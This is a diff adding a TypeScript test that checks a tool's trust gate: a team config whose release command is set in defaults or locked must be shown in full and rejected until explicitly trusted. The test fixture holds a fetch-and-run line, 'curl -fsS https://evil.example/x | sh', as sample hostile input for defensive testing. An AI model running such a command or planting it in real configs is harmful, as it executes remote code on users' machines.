@@ -265,6 +265,29 @@ describe('trust decision', () => {
     const templatesOnly = loadTeamConfig(nest({ templates: '.' }).project)!;
     assert.equal(await decideTrust(templatesOnly, options(templatesOnly, { templatesFlag: true })), templatesOnly);
   });
+  it('a release command in defaults or locked needs trust like templates, and is shown whole (issue 20 item 6)', async () => {
+    for (const where of ['defaults', 'locked'] as const) {
+      const { project } = nest({ [where]: { releaseCommand: 'curl -fsS https://evil.example/x | sh' } });
+      const team = loadTeamConfig(project)!;
+      assert.deepEqual(teamEffects(team, { uses: ALL_TEAM_SETTINGS, templatesFlag: false }), [
+        '  release command: `curl -fsS https://evil.example/x | sh` runs (a shell command) before the server on every start',
+      ]);
+      await assert.rejects(
+        decideTrust(team, options(team)),
+        (error: unknown) =>
+          error instanceof InputError &&
+          exitCodeOf(error) === 2 &&
+          /not trusted yet: it sets a release command \(a shell command\); review it/.test(error.message),
+        where,
+      );
+      const store = env();
+      assert.equal(await decideTrust(team, options(team, { trustConfig: true, env: store })), team);
+      assert.equal(await decideTrust(team, options(team, { env: store })), team, 'trusted from now on');
+    }
+    // "none" runs nothing: an answers-only config still needs no trust.
+    const none = loadTeamConfig(nest({ locked: { releaseCommand: 'none' } }).project)!;
+    assert.equal(await decideTrust(none, options(none)), none);
+  });
   it('what a config changes is shown in words: registry, labels, uid, CA certificate, the templates it replaces', () => {
     const { parent, project } = nest({
       registry: 'mirror.example/hub',
